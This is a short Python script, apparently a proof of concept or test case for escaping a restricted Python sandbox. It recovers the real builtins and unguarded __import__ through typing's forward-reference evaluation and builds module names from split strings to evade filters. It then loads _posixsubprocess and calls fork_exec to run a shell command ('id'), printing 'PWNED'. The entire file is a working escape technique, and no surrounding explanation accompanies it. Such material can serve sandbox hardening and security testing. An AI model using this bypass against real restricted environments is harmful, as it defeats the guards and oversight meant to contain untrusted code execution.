# proc: _posixsubprocess imported by the real __import__ straight from the program (import event)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

try:
    ps = imp("_posix" + "subprocess")
except Exception as e:
    print("refused:", type(e).__name__, e)
else:
    r, w = o.pipe()
    er, ew = o.pipe()
    argv = [b"/bin/sh", b"-c", b"id"]
    pid = ps.fork_exec(argv, [argv[0]], True, (ew,), None, None, -1, -1, -1, w, -1, -1,
                       er, ew, True, False, -1, None, None, None, -1, None, False)
    o.close(w)
    o.close(ew)
    out = o.read(r, 300)
    if out:
        print(M, pid, out)
